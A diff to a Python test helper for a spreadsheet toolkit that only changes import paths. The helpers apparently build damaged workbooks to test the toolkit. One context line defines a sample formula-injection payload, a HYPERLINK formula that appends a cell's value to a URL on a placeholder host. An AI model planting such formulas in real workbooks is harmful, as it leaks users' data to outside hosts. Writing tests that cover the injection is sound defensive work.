@@ -255,7 +255,7 @@ def openpyxl_edit(data: bytes, change: Callable) -> bytes:
 def strip_meta(wb) -> None:
     """What a re-save by another program may leave: no meta sheet, names or custom properties."""
     from openpyxl.packaging.custom import CustomPropertyList
-    from toolkit.workbook.layout import workbook_plan
+    from toolkit.layout import workbook_plan
 
     del wb[workbook_plan().meta_sheet]
     for name in list(wb.defined_names):
@@ -426,7 +426,7 @@ def _unmerged(wb) -> None:
 def _rows_shifted(wb) -> None:
     """表三's numbers moved one row down under their labels (typed into the wrong rows)."""
     from toolkit.formats import load_format
-    from toolkit.workbook.layout import cell_addresses
+    from toolkit.layout import cell_addresses
 
     fmt = load_format(FORMAT)
     where = cell_addresses(fmt)
@@ -564,7 +564,7 @@ _INJECT = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'
 
 def _injected(wb) -> None:
     from toolkit.formats import load_format
-    from toolkit.workbook.layout import cell_addresses, info_rows, workbook_plan
+    from toolkit.layout import cell_addresses, info_rows, workbook_plan
 
     fmt = load_format(FORMAT)
     where = cell_addresses(fmt)
